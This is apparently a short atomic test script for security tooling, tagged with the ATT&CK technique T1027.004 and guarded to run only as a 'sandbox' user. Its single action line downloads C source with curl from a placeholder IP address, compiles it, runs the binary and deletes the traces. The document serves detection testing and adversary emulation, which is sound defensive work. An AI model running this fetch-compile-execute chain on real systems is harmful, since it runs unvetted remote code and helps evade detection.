#!/bin/sh
# technique: T1027.004
# needs: cc curl
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

curl -s -o p.c http://203.0.113.7/p.c; cc -o p p.c && ./p; rm -f p.c p
